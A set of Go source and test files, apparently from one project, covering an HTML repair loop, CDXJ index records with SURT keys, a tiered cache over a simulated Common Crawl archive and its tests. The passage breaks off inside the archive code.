	if maxRounds <= 0 {
		maxRounds = DefaultMaxRounds
	}
	parse := func(b []byte) (*htmlparse.Result, error) {
		return htmlparse.ParseReuseContext(ctx, b, htmlparse.Options{
			RecordTokens: true,
			MaxTreeDepth: opts.MaxTreeDepth,
		})
	}
	checker := core.NewChecker()
	res, err := parse(input)
	if err != nil {
		return nil, err
	}
	rep := checker.CheckParsed(&core.Page{Result: res})
	origHits := rep.RuleHits

	r := &Result{Output: input, RemainingHits: origHits}
	if !anyTargeted(rep) {
		// Nothing the registry covers: the no-op result is the input
		// itself, byte for byte (this is what makes a verified repair
		// idempotent — the second pass changes nothing).
		observeRepair(r, nil)
		return r, nil
	}

	cur := input
	var applied []Fix
	fail := func(uf ...Unfixable) *Result {
		r.Output = input
		r.Applied = nil
		r.RemainingHits = origHits
		r.Unfixable = uf
		observeRepair(r, applied)
		return r
	}
	for round := 1; ; round++ {
		r.Rounds = round
		fixes := applyStrategies(res, rep)
		applied = append(applied, fixes...)
		out := []byte(htmlparse.RenderString(res.Doc))

		outRes, err := parse(out)
		if err != nil {
			if ctx.Err() != nil {
				return nil, err
			}
			// The rendered candidate no longer parses under the
			// configured limits (e.g. reparenting pushed it past the
			// depth cap). That is a verification failure of the
			// candidate, not an operational error of the call.
			return fail(Unfixable{RuleID: targetedIDs(rep)[0],
				Reason: "repaired candidate failed to re-parse: " + err.Error()}), nil
		}
		outRep := checker.CheckParsed(&core.Page{Result: outRes})

		// No rule outside the registry may get worse than this round's
		// input: those we could not fix next round anyway, so fail fast.
		for _, id := range core.RuleIDs() {
			if strategyFor(id) != nil {
				continue
			}
			if outRep.RuleHits[id] > rep.RuleHits[id] {
				return fail(Unfixable{RuleID: id, Reason: fmt.Sprintf(
					"repair would introduce %d new finding(s)",
					outRep.RuleHits[id]-rep.RuleHits[id])}), nil
			}
		}
		if !anyTargeted(outRep) {
			// Converged: every strategy-covered rule is at zero, and by
			// the per-round check above no other rule ever increased, so
			// the output's hits are bounded by the input's rule for rule.
			r.Output = out
			r.Applied = applied
			r.RemainingHits = outRep.RuleHits
			r.Unfixable = nil
			observeRepair(r, applied)
			return r, nil
		}
		if len(fixes) == 0 || bytes.Equal(out, cur) {
			return fail(remainingUnfixable(outRep, "no strategy can make further progress")...), nil
		}
		if round == maxRounds {
			return fail(remainingUnfixable(outRep, fmt.Sprintf(
				"still violated after %d fix→recheck rounds", maxRounds))...), nil
		}
		cur, res, rep = out, outRes, outRep
	}
}

// applyStrategies runs every registered strategy whose rule has findings
// in rep, in registry order, against res. It returns the recorded fixes.
func applyStrategies(res *htmlparse.Result, rep *core.Report) []Fix {
	var fixes []Fix
	for _, s := range strategies {
		id := s.RuleID()
		if rep.RuleHits[id] == 0 {
			continue
		}
		tx := &Tx{Res: res, Findings: findingsFor(rep, id), ruleID: id}
		s.Apply(tx)
		fixes = append(fixes, tx.fixes...)
	}
	return fixes
}

func findingsFor(rep *core.Report, id string) []core.Finding {
	var out []core.Finding
	for _, f := range rep.Findings {
		if f.RuleID == id {
			out = append(out, f)
		}
	}
	return out
}

func strategyFor(id string) Strategy {
	for _, s := range strategies {
		if s.RuleID() == id {
			return s
		}
	}
	return nil
}

func anyTargeted(rep *core.Report) bool {
	for _, s := range strategies {
		if rep.RuleHits[s.RuleID()] > 0 {
			return true
		}
	}
	return false
}

func targetedIDs(rep *core.Report) []string {
	var out []string
	for _, s := range strategies {
		if rep.RuleHits[s.RuleID()] > 0 {
			out = append(out, s.RuleID())
		}
	}
	return out
}

func remainingUnfixable(rep *core.Report, reason string) []Unfixable {
	var out []Unfixable
	for _, id := range targetedIDs(rep) {
		out = append(out, Unfixable{RuleID: id, Reason: reason})
	}
	return out
}
