// Package cdx implements CDXJ index records, the lookup layer Common Crawl
// exposes over its WARC archives: one line per capture, keyed by the
// SURT-canonicalized URL plus timestamp, with a JSON payload locating the
// record inside a WARC file (filename, offset, length).
package cdx

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"strings"
	"time"
)

// Record is one capture entry.
type Record struct {
	// SURT is the canonical sort-friendly key, e.g. "org,example)/path".
	SURT string `json:"-"`
	// Timestamp is the 14-digit capture time (YYYYMMDDhhmmss).
	Timestamp string `json:"-"`

	URL      string `json:"url"`
	MIME     string `json:"mime"`
	Status   int    `json:"status"`
	Digest   string `json:"digest,omitempty"`
	Length   int64  `json:"length"`
	Offset   int64  `json:"offset"`
	Filename string `json:"filename"`
}

// Line serializes the record as one CDXJ line.
func (r *Record) Line() string {
	payload, _ := json.Marshal(r) // struct of plain fields never fails
	return fmt.Sprintf("%s %s %s", r.SURT, r.Timestamp, payload)
}

// ParseLine decodes one CDXJ line.
func ParseLine(line string) (*Record, error) {
	line = strings.TrimSpace(line)
	if line == "" {
		return nil, fmt.Errorf("cdx: empty line")
	}
	i := strings.IndexByte(line, ' ')
	if i < 0 {
		return nil, fmt.Errorf("cdx: missing timestamp in %q", line)
	}
	j := strings.IndexByte(line[i+1:], ' ')
	if j < 0 {
		return nil, fmt.Errorf("cdx: missing payload in %q", line)
	}
	rec := &Record{SURT: line[:i], Timestamp: line[i+1 : i+1+j]}
	if err := json.Unmarshal([]byte(line[i+1+j+1:]), rec); err != nil {
		return nil, fmt.Errorf("cdx: payload: %w", err)
	}
	return rec, nil
}

// Timestamp formats t in CDX 14-digit form.
func Timestamp(t time.Time) string { return t.UTC().Format("20060102150405") }

// SURT canonicalizes a URL into its sort-friendly key: scheme dropped,
// host labels reversed and comma-joined, path appended after ")". Query
// strings are kept verbatim; ports are dropped.
func SURT(rawURL string) string {
	u := rawURL
	if i := strings.Index(u, "://"); i >= 0 {
		u = u[i+3:]
	}
	host, path := u, "/"
	if i := strings.IndexAny(u, "/?"); i >= 0 {
		host, path = u[:i], u[i:]
		if path[0] == '?' {
			path = "/" + path
		}
	}
	if i := strings.IndexByte(host, ':'); i >= 0 {
		host = host[:i]
	}
	labels := strings.Split(strings.ToLower(host), ".")
	for l, r := 0, len(labels)-1; l < r; l, r = l+1, r-1 {
		labels[l], labels[r] = labels[r], labels[l]
	}
	return strings.Join(labels, ",") + ")" + strings.ToLower(path)
}

// Host extracts the hostname from a URL (for per-domain grouping).
func Host(rawURL string) string {
	u := rawURL
	if i := strings.Index(u, "://"); i >= 0 {
		u = u[i+3:]
	}
	if i := strings.IndexAny(u, "/?"); i >= 0 {
		u = u[:i]
	}
	if i := strings.IndexByte(u, ':'); i >= 0 {
		u = u[:i]
	}
	return strings.ToLower(u)
}

// Index is an in-memory CDXJ index with prefix lookup, the shape the
// Common Crawl index server exposes.
type Index struct {
	records []*Record // sorted by (SURT, Timestamp)
	sorted  bool
}

// Add appends a record.
func (ix *Index) Add(r *Record) {
	ix.records = append(ix.records, r)
	ix.sorted = false
}

// Len reports the number of records.
func (ix *Index) Len() int { return len(ix.records) }

func (ix *Index) sort() {
	if ix.sorted {
		return
	}
	sort.Slice(ix.records, func(i, j int) bool {
		if ix.records[i].SURT != ix.records[j].SURT {
			return ix.records[i].SURT < ix.records[j].SURT
		}
		return ix.records[i].Timestamp < ix.records[j].Timestamp
	})
	ix.sorted = true
}

// LookupPrefix returns up to limit records whose SURT starts with the
// canonical form of urlPrefix (a domain queries as "example.org"). A
// limit <= 0 means no limit.
func (ix *Index) LookupPrefix(urlPrefix string, limit int) []*Record {
	ix.sort()
	key := SURT(urlPrefix)
	key = strings.TrimSuffix(key, "/") // domain query: match all paths
	start := sort.Search(len(ix.records), func(i int) bool {
		return ix.records[i].SURT >= key
	})
	var out []*Record
	for i := start; i < len(ix.records); i++ {
		if !strings.HasPrefix(ix.records[i].SURT, key) {
			break
		}
		out = append(out, ix.records[i])
		if limit > 0 && len(out) >= limit {
			break
		}
	}
	return out
}

// WriteTo serializes the index in sorted order.
func (ix *Index) WriteTo(w io.Writer) (int64, error) {
	ix.sort()
	bw := bufio.NewWriter(w)
	var n int64
	for _, r := range ix.records {
		m, err := bw.WriteString(r.Line() + "\n")
		n += int64(m)
		if err != nil {
			return n, err
		}
	}
	return n, bw.Flush()
}

// Read parses a CDXJ stream into an Index.
func Read(r io.Reader) (*Index, error) {
	ix := &Index{}
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64<<10), 1<<20)
	for sc.Scan() {
		if strings.TrimSpace(sc.Text()) == "" {
			continue
		}
		rec, err := ParseLine(sc.Text())
		if err != nil {
			return nil, err
		}
		ix.Add(rec)
	}
	return ix, sc.Err()
}
