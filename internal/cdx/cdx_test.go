package cdx

import (
	"bytes"
	"strings"
	"testing"
	"time"
)

func TestSURT(t *testing.T) {
	cases := map[string]string{
		"https://www.example.org/path/x":   "org,example,www)/path/x",
		"http://example.org":               "org,example)/",
		"https://example.org:8080/a":       "org,example)/a",
		"https://Sub.Example.ORG/A/B?q=1":  "org,example,sub)/a/b?q=1",
		"example.org/x":                    "org,example)/x",
		"https://example.org?q=1":          "org,example)/?q=1",
		"https://bluemarket.co.uk/deals/3": "uk,co,bluemarket)/deals/3",
	}
	for in, want := range cases {
		if got := SURT(in); got != want {
			t.Errorf("SURT(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestHost(t *testing.T) {
	cases := map[string]string{
		"https://www.Example.org/path": "www.example.org",
		"example.org":                  "example.org",
		"http://a.b:443/x?y":           "a.b",
	}
	for in, want := range cases {
		if got := Host(in); got != want {
			t.Errorf("Host(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestTimestamp(t *testing.T) {
	ts := Timestamp(time.Date(2022, 1, 30, 23, 59, 8, 0, time.UTC))
	if ts != "20220130235908" {
		t.Fatalf("timestamp = %q", ts)
	}
}

func sampleRecord(url string, off int64) *Record {
	return &Record{
		SURT: SURT(url), Timestamp: "20220130000000",
		URL: url, MIME: "text/html", Status: 200,
		Length: 100, Offset: off, Filename: "seg-0001.warc.gz",
	}
}

func TestLineRoundTrip(t *testing.T) {
	r := sampleRecord("https://example.org/a?x=1", 12345)
	line := r.Line()
	got, err := ParseLine(line)
	if err != nil {
		t.Fatal(err)
	}
	if *got != *r {
		t.Fatalf("round trip: %+v vs %+v", got, r)
	}
	for _, bad := range []string{"", "only-surt", "surt ts", "surt ts notjson"} {
		if _, err := ParseLine(bad); err == nil {
			t.Errorf("no error for %q", bad)
		}
	}
}

func TestIndexLookupPrefix(t *testing.T) {
	ix := &Index{}
	urls := []string{
		"https://example.org/",
		"https://example.org/a",
		"https://example.org/b",
		"https://examples.org/", // different domain, SURT-adjacent
		"https://other.net/",
	}
	for i, u := range urls {
		ix.Add(sampleRecord(u, int64(i)))
	}
	got := ix.LookupPrefix("example.org", 0)
	if len(got) != 3 {
		t.Fatalf("lookup example.org: %d records", len(got))
	}
	for _, r := range got {
		if Host(r.URL) != "example.org" {
			t.Fatalf("leaked %s", r.URL)
		}
	}
	if got := ix.LookupPrefix("example.org", 2); len(got) != 2 {
		t.Fatalf("limit ignored: %d", len(got))
	}
	if got := ix.LookupPrefix("missing.example", 0); len(got) != 0 {
		t.Fatalf("phantom results: %v", got)
	}
}

func TestIndexSerialization(t *testing.T) {
	ix := &Index{}
	ix.Add(sampleRecord("https://b.example/", 2))
	ix.Add(sampleRecord("https://a.example/", 1))
	var buf bytes.Buffer
	if _, err := ix.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	// Sorted by SURT.
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 2 || !strings.HasPrefix(lines[0], "example,a)") {
		t.Fatalf("lines = %q", lines)
	}
	ix2, err := Read(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if ix2.Len() != 2 {
		t.Fatalf("read back %d records", ix2.Len())
	}
}
