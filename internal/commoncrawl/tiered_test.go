package commoncrawl

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"github.com/hvscan/hvscan/internal/cdx"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/obs"
	"github.com/hvscan/hvscan/internal/warc"
)

// fakeBackend is a synthetic Archive that counts every ReadRange and
// can block or fail on demand, for exercising the tiered cache's
// coalescing and error paths deterministically.
type fakeBackend struct {
	mu     sync.Mutex
	reads  int
	perKey map[readKey]int
	// fail decides, per key and 1-based attempt, whether the read errors.
	fail func(key readKey, attempt int) error

	entered chan struct{} // receives one token per backend entry, if set
	release chan struct{} // backend blocks on this until closed, if set
}

func (b *fakeBackend) Crawls() []string { return []string{"CC-FAKE"} }

func (b *fakeBackend) Query(context.Context, string, string, int) ([]*cdx.Record, error) {
	return nil, nil
}

func (b *fakeBackend) ReadRange(_ context.Context, filename string, offset, length int64) ([]byte, error) {
	key := readKey{filename: filename, offset: offset, length: length}
	b.mu.Lock()
	b.reads++
	if b.perKey == nil {
		b.perKey = make(map[readKey]int)
	}
	b.perKey[key]++
	attempt := b.perKey[key]
	fail := b.fail
	b.mu.Unlock()
	if b.entered != nil {
		b.entered <- struct{}{}
	}
	if b.release != nil {
		<-b.release
	}
	if fail != nil {
		if err := fail(key, attempt); err != nil {
			return nil, err
		}
	}
	data := make([]byte, length)
	for i := range data {
		data[i] = byte(offset + int64(i))
	}
	return data, nil
}

func (b *fakeBackend) readCount() int {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.reads
}

// TestTieredCoalescesConcurrentMisses pins the singleflight contract:
// while one backend read is in flight, every concurrent request for
// the same range joins it, so the backend sees exactly one read.
// Run under -race (make chaos does) to double as a publication check.
func TestTieredCoalescesConcurrentMisses(t *testing.T) {
	backend := &fakeBackend{
		entered: make(chan struct{}, 1),
		release: make(chan struct{}),
	}
	reg := obs.NewRegistry()
	ta := NewTiered(backend, 1<<20).Instrument(reg)
	coalesced := reg.Counter("commoncrawl_cache_coalesced_total")

	const waiters = 9
	results := make(chan []byte, waiters+1)
	readOne := func() {
		data, err := ta.ReadRange(context.Background(), "f.warc.gz", 10, 32)
		if err != nil {
			t.Errorf("ReadRange: %v", err)
		}
		results <- data
	}

	go readOne()      // the leader…
	<-backend.entered // …is now inside the blocked backend read.
	// The flight stays registered until the backend returns, so every
	// waiter started now must join it rather than read again.
	for i := 0; i < waiters; i++ {
		go readOne()
	}
	deadline := time.Now().Add(5 * time.Second)
	for coalesced.Value() < waiters {
		if time.Now().After(deadline) {
			t.Fatalf("only %d of %d waiters coalesced", coalesced.Value(), waiters)
		}
		time.Sleep(time.Millisecond)
	}
	close(backend.release)

	var first []byte
	for i := 0; i < waiters+1; i++ {
		data := <-results
		if first == nil {
			first = data
		} else if !bytes.Equal(first, data) {
			t.Fatal("coalesced readers saw different bytes")
		}
	}
	if n := backend.readCount(); n != 1 {
		t.Fatalf("backend saw %d reads, want exactly 1", n)
	}
	if got := reg.Counter("commoncrawl_cache_misses_total").Value(); got != 1 {
		t.Fatalf("misses = %d, want 1", got)
	}
	// And now it is resident: one more read is a pure hit.
	if _, err := ta.ReadRange(context.Background(), "f.warc.gz", 10, 32); err != nil {
		t.Fatal(err)
	}
	if n := backend.readCount(); n != 1 {
		t.Fatalf("cache hit reached the backend (%d reads)", n)
	}
	if got := reg.Counter("commoncrawl_cache_hits_total").Value(); got != 1 {
		t.Fatalf("hits = %d, want 1", got)
	}
}

// TestTieredEvictionAccounting walks the byte budget across its exact
// boundary: filling to precisely the budget evicts nothing, one byte
// over evicts from the LRU tail, hits refresh recency, and entries
// larger than the whole budget are served but never admitted.
func TestTieredEvictionAccounting(t *testing.T) {
	backend := &fakeBackend{}
	reg := obs.NewRegistry()
	ta := NewTiered(backend, 100).Instrument(reg)
	ctx := context.Background()
	read := func(offset, length int64) {
		t.Helper()
		if _, err := ta.ReadRange(ctx, "f.warc.gz", offset, length); err != nil {
			t.Fatal(err)
		}
	}
	check := func(wantLen int, wantResident int64) {
		t.Helper()
		if got := ta.Len(); got != wantLen {
			t.Fatalf("Len = %d, want %d", got, wantLen)
		}
		if got := ta.Resident(); got != wantResident {
			t.Fatalf("Resident = %d, want %d", got, wantResident)
		}
		if g := reg.Gauge("commoncrawl_cache_resident_bytes").Value(); g != wantResident {
			t.Fatalf("resident gauge = %d, want %d", g, wantResident)
		}
	}

	read(0, 40)
	read(100, 40)
	read(200, 20) // exactly at budget: 100 of 100 resident, nothing evicted
	check(3, 100)
	if ev := reg.Counter("commoncrawl_cache_evictions_total").Value(); ev != 0 {
		t.Fatalf("evictions at exact budget = %d, want 0", ev)
	}

	read(300, 40) // over budget: the oldest entry (0,40) goes
	check(3, 100)
	before := backend.readCount()
	read(0, 40) // evicted, so this is a miss again
	if backend.readCount() != before+1 {
		t.Fatal("evicted entry was served from cache")
	}
	check(3, 100) // (100,40) evicted to make room

	read(100, 40) // miss; (200,20) evicted — order is now (100),(0),(300)
	read(300, 40) // hit: refreshes (300,40) to the front
	backendBefore := backend.readCount()
	read(400, 40) // evicts the two LRU entries (100,40) then (0,40)
	check(2, 80)
	if backend.readCount() != backendBefore+1 {
		t.Fatal("unexpected backend traffic during eviction")
	}

	// Oversized read: served correctly, never cached.
	data, err := ta.ReadRange(ctx, "f.warc.gz", 1000, 200)
	if err != nil || int64(len(data)) != 200 {
		t.Fatalf("oversized read: %d bytes, err %v", len(data), err)
	}
	check(2, 80)
}

// TestTieredErrorsNotCached pins the retry contract: a failed read
// must not poison its key, so the next attempt reaches the backend.
func TestTieredErrorsNotCached(t *testing.T) {
	backendErr := errors.New("backend weather")
	backend := &fakeBackend{
		fail: func(_ readKey, attempt int) error {
			if attempt == 1 {
				return backendErr
			}
			return nil
		},
	}
	ta := NewTiered(backend, 1<<20)
	ctx := context.Background()
	if _, err := ta.ReadRange(ctx, "f.warc.gz", 0, 16); !errors.Is(err, backendErr) {
		t.Fatalf("first read: %v, want backend error", err)
	}
	if ta.Len() != 0 {
		t.Fatal("error was admitted to the cache")
	}
	if _, err := ta.ReadRange(ctx, "f.warc.gz", 0, 16); err != nil {
		t.Fatalf("second read should retry through: %v", err)
	}
	if n := backend.readCount(); n != 2 {
		t.Fatalf("backend saw %d reads, want 2", n)
	}
}

// TestChaosTieredTransientsRetryThrough runs the production stack —
// tiered cache over an instrumented chaos archive — and checks that
// chaos transients clear on retry exactly as without the cache, and
// that once cached, re-reads stop generating backend traffic.
func TestChaosTieredTransientsRetryThrough(t *testing.T) {
	arch := chaosTestArchive(t)
	chaos := NewChaos(arch, ChaosConfig{Seed: 3, TransientRate: 1}) // every key faults once
	reg := obs.NewRegistry()
	ta := NewTiered(Instrument(chaos, reg), 1<<20)
	backendOK := reg.Counter(`commoncrawl_reads_total{outcome="ok"}`)

	crawl := arch.Crawls()[0]
	d := arch.Generator().Universe()[0]
	recs, err := arch.Query(context.Background(), crawl, d, 1)
	if err != nil || len(recs) == 0 {
		t.Fatalf("ground-truth query: %v (%d records)", err, len(recs))
	}
	r := recs[0]
	if _, err := ta.ReadRange(context.Background(), r.Filename, r.Offset, r.Length); !errors.Is(err, ErrChaosTransient) {
		t.Fatalf("first read: %v, want transient fault through the cache", err)
	}
	got, err := ta.ReadRange(context.Background(), r.Filename, r.Offset, r.Length)
	if err != nil {
		t.Fatalf("second read must clear: %v", err)
	}
	want, err := arch.ReadRange(context.Background(), r.Filename, r.Offset, r.Length)
	if err != nil || !bytes.Equal(got, want) {
		t.Fatalf("tiered bytes diverge from the archive: %v", err)
	}
	okBefore := backendOK.Value()
	for i := 0; i < 3; i++ {
		if _, err := ta.ReadRange(context.Background(), r.Filename, r.Offset, r.Length); err != nil {
			t.Fatal(err)
		}
	}
	if backendOK.Value() != okBefore {
		t.Fatal("cache hits generated backend reads")
	}
}

// TestResumeTieredColdCacheEquivalence is the kill-9 story for the
// cache layer: restarting with an empty cache over the same
// deterministic chaos archive yields the same outcome fingerprint as
// the warm process, so a crawl resume cannot observe the cache.
func TestResumeTieredColdCacheEquivalence(t *testing.T) {
	cfg := ChaosConfig{Seed: 11, TransientRate: 0.3, PermanentRate: 0.1, TruncateRate: 0.2, GarbageRate: 0.2}
	arch := chaosTestArchive(t)
	crawl := arch.Crawls()[0]
	domains := arch.Generator().Universe()

	sweep := func(a Archive) map[string]string {
		out := make(map[string]string)
		for _, d := range domains {
			recs, err := a.Query(context.Background(), crawl, d, 3)
			if err != nil {
				out["q|"+d] = err.Error()
				continue
			}
			out["q|"+d] = "ok"
			for _, r := range recs {
				got, err := a.ReadRange(context.Background(), r.Filename, r.Offset, r.Length)
				if err != nil {
					out[r.URL] = err.Error()
					continue
				}
				want, _ := arch.ReadRange(context.Background(), r.Filename, r.Offset, r.Length)
				switch {
				case bytes.Equal(got, want):
					out[r.URL] = "ok"
				case len(got) < len(want):
					out[r.URL] = "truncated"
				default:
					out[r.URL] = "garbage"
				}
			}
		}
		return out
	}

	warm := sweep(NewTiered(NewChaos(arch, cfg), 1<<20))
	cold := sweep(NewTiered(NewChaos(arch, cfg), 1<<20)) // fresh cache = restarted process
	if len(warm) != len(cold) {
		t.Fatalf("sweeps differ in size: %d vs %d", len(warm), len(cold))
	}
	for k, v := range warm {
		if cold[k] != v {
			t.Fatalf("outcome for %s differs across a cache restart: %q vs %q", k, v, cold[k])
		}
	}
}

// writeDiskFixture lays out an hvgen-style archive under dir with the
// corpus spread across `segments` WARC files, returning the index
// records for every page.
func writeDiskFixture(tb testing.TB, dir string, segments int) []*cdx.Record {
	tb.Helper()
	g := corpus.New(corpus.Config{Seed: 5, Domains: 12, MaxPages: 3})
	snap := corpus.Snapshots[0]
	crawlDir := filepath.Join(dir, snap.ID)
	if err := os.MkdirAll(crawlDir, 0o755); err != nil {
		tb.Fatal(err)
	}
	files := make([]*os.File, segments)
	writers := make([]*warc.Writer, segments)
	names := make([]string, segments)
	for i := range files {
		names[i] = fmt.Sprintf("segment-%04d.warc.gz", i)
		f, err := os.Create(filepath.Join(crawlDir, names[i]))
		if err != nil {
			tb.Fatal(err)
		}
		files[i] = f
		writers[i] = warc.NewWriter(f)
	}
	index := &cdx.Index{}
	var recs []*cdx.Record
	seg := 0
	for _, d := range g.Universe() {
		for i := 0; i < g.PageCount(d, snap); i++ {
			status, ctype, body := g.PageHTTP(d, snap, i)
			url := g.PageURL(d, i)
			off, length, err := writers[seg].Write(warc.NewResponse(url, snap.Date, warc.BuildHTTPResponse(status, ctype, body)))
			if err != nil {
				tb.Fatal(err)
			}
			rec := &cdx.Record{
				SURT: cdx.SURT(url), Timestamp: cdx.Timestamp(snap.Date),
				URL: url, MIME: "text/html", Status: status,
				Length: length, Offset: off,
				Filename: snap.ID + "/" + names[seg],
			}
			index.Add(rec)
			recs = append(recs, rec)
			seg = (seg + 1) % segments
		}
	}
	for _, f := range files {
		if err := f.Close(); err != nil {
			tb.Fatal(err)
		}
	}
	idxFile, err := os.Create(filepath.Join(crawlDir, "index.cdxj"))
	if err != nil {
		tb.Fatal(err)
	}
	if _, err := index.WriteTo(idxFile); err != nil {
		tb.Fatal(err)
	}
	if err := idxFile.Close(); err != nil {
		tb.Fatal(err)
	}
	return recs
}

// TestDiskArchiveFDBound pins the descriptor budget: reads across more
// segment files than maxOpen keep the handle cache at the cap, keep
// serving correct bytes, and survive concurrent readers (refcounts stop
// eviction from closing a file mid-pread; run under -race).
func TestDiskArchiveFDBound(t *testing.T) {
	dir := t.TempDir()
	recs := writeDiskFixture(t, dir, 6)
	disk, err := OpenDisk(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer disk.Close()
	disk.SetMaxOpen(2)

	for _, r := range recs {
		if _, err := disk.ReadRange(context.Background(), r.Filename, r.Offset, r.Length); err != nil {
			t.Fatal(err)
		}
		if n := disk.OpenFiles(); n > 2 {
			t.Fatalf("descriptor cache grew to %d with maxOpen=2", n)
		}
	}
	if n := disk.OpenFiles(); n != 2 {
		t.Fatalf("after the sweep OpenFiles = %d, want the cap (2)", n)
	}

	// Evicted handles reopen transparently and the payloads still decode.
	cap0, err := FetchCapture(context.Background(), disk, recs[0])
	if err != nil {
		t.Fatal(err)
	}
	if cap0.URL == "" || len(cap0.Body) == 0 {
		t.Fatalf("capture after reopen is empty: %+v", cap0)
	}

	// Hammer all segments concurrently under a one-descriptor budget.
	disk.SetMaxOpen(1)
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := w; i < len(recs); i += 8 {
				r := recs[i]
				if _, err := disk.ReadRange(context.Background(), r.Filename, r.Offset, r.Length); err != nil {
					t.Errorf("concurrent read %s@%d: %v", r.Filename, r.Offset, err)
				}
			}
		}(w)
	}
	wg.Wait()
}

// BenchmarkArchiveReadRange measures the cache-hit speedup the tiered
// layer buys over direct disk preads — the number recorded in
// EXPERIMENTS.md for the crawler's re-scan workloads.
func BenchmarkArchiveReadRange(b *testing.B) {
	dir := b.TempDir()
	recs := writeDiskFixture(b, dir, 2)
	disk, err := OpenDisk(dir)
	if err != nil {
		b.Fatal(err)
	}
	defer disk.Close()
	r := recs[0]

	b.Run("disk", func(b *testing.B) {
		b.SetBytes(r.Length)
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := disk.ReadRange(context.Background(), r.Filename, r.Offset, r.Length); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("tiered-hit", func(b *testing.B) {
		ta := NewTiered(disk, DefaultCacheBudget)
		if _, err := ta.ReadRange(context.Background(), r.Filename, r.Offset, r.Length); err != nil {
			b.Fatal(err)
		}
		b.SetBytes(r.Length)
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, err := ta.ReadRange(context.Background(), r.Filename, r.Offset, r.Length); err != nil {
				b.Fatal(err)
			}
		}
	})
}
