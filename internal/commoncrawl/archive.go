// Package commoncrawl simulates the Common Crawl access path the paper's
// framework uses: a CDX index queried per domain plus ranged reads into
// WARC archives. Both a synthetic, generate-on-demand archive and an
// on-disk archive (written by cmd/hvgen) implement the same interface, and
// both can be served over HTTP (cmd/ccserve) or consumed in-process.
package commoncrawl

import (
	"bytes"
	"context"
	"fmt"
	"sort"
	"sync"

	"github.com/hvscan/hvscan/internal/cdx"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/resilience"
	"github.com/hvscan/hvscan/internal/warc"
)

// Archive is a queryable snapshot collection. Query and ReadRange take
// the caller's context so every implementation — network client, chaos
// latency injection, disk reads — can be cancelled mid-flight; Crawls
// is metadata and stays context-free.
type Archive interface {
	// Crawls lists the snapshot identifiers, oldest first.
	Crawls() []string
	// Query returns up to limit captures of the domain in the crawl.
	Query(ctx context.Context, crawl, domain string, limit int) ([]*cdx.Record, error)
	// ReadRange returns length bytes at offset of the named WARC file.
	ReadRange(ctx context.Context, filename string, offset, length int64) ([]byte, error)
}

// Capture is one fetched page, decoded down to the HTTP payload.
type Capture struct {
	URL    string
	MIME   string
	Status int
	Body   []byte
}

// FetchCapture materializes a capture from any Archive.
func FetchCapture(ctx context.Context, a Archive, rec *cdx.Record) (*Capture, error) {
	raw, err := a.ReadRange(ctx, rec.Filename, rec.Offset, rec.Length)
	if err != nil {
		return nil, err
	}
	wrec, err := warc.ReadRecordAt(raw, 0, int64(len(raw)))
	if err != nil {
		return nil, fmt.Errorf("commoncrawl: record %s@%d: %w", rec.Filename, rec.Offset, err)
	}
	resp, err := warc.ParseHTTPResponse(wrec.Block)
	if err != nil {
		return nil, err
	}
	return &Capture{
		URL:    wrec.TargetURI(),
		MIME:   mimeOf(resp.Headers.Get("Content-Type")),
		Status: resp.StatusCode,
		Body:   resp.Body,
	}, nil
}

func mimeOf(contentType string) string {
	for i := 0; i < len(contentType); i++ {
		if contentType[i] == ';' {
			return trimSpace(contentType[:i])
		}
	}
	return trimSpace(contentType)
}

func trimSpace(s string) string {
	for len(s) > 0 && (s[0] == ' ' || s[0] == '\t') {
		s = s[1:]
	}
	for len(s) > 0 && (s[len(s)-1] == ' ' || s[len(s)-1] == '\t') {
		s = s[:len(s)-1]
	}
	return s
}

// SyntheticArchive renders the corpus lazily: each (crawl, domain) pair
// materializes as one per-domain WARC blob, built deterministically on
// first access and cached. This is the substitution for Common Crawl's
// petabytes described in DESIGN.md §4.
type SyntheticArchive struct {
	g *corpus.Generator

	mu    sync.Mutex
	cache map[string]*domainBlob
	// cacheCap bounds memory; the cache is cleared wholesale when full
	// (access patterns are domain-sequential, so this is cheap and safe).
	cacheCap int
}

type domainBlob struct {
	data    []byte
	records []*cdx.Record
}

// NewSynthetic wraps a corpus generator.
func NewSynthetic(g *corpus.Generator) *SyntheticArchive {
	return &SyntheticArchive{g: g, cache: make(map[string]*domainBlob), cacheCap: 512}
}

// Generator exposes the backing corpus generator (for ground-truth tests).
func (a *SyntheticArchive) Generator() *corpus.Generator { return a.g }

// Crawls lists the eight snapshot IDs.
func (a *SyntheticArchive) Crawls() []string {
	out := make([]string, len(corpus.Snapshots))
	for i, s := range corpus.Snapshots {
		out[i] = s.ID
	}
	return out
}

// blobName is the synthetic WARC filename for a crawl/domain pair.
func blobName(crawl, domain string) string {
	return crawl + "/" + domain + ".warc.gz"
}

// splitBlobName reverses blobName.
func splitBlobName(filename string) (crawl, domain string, ok bool) {
	for i := 0; i < len(filename); i++ {
		if filename[i] == '/' {
			crawl = filename[:i]
			rest := filename[i+1:]
			if len(rest) > 8 && rest[len(rest)-8:] == ".warc.gz" {
				return crawl, rest[:len(rest)-8], true
			}
			return "", "", false
		}
	}
	return "", "", false
}

func (a *SyntheticArchive) blob(crawl, domain string) (*domainBlob, error) {
	snap, ok := corpus.SnapshotByID(crawl)
	if !ok {
		// Asking for a snapshot that does not exist is a configuration
		// error, not archive weather: mark it fatal so a crawl run stops
		// immediately instead of burning its error budget on it.
		return nil, resilience.Fatal(fmt.Errorf("commoncrawl: unknown crawl %q", crawl))
	}
	key := blobName(crawl, domain)
	a.mu.Lock()
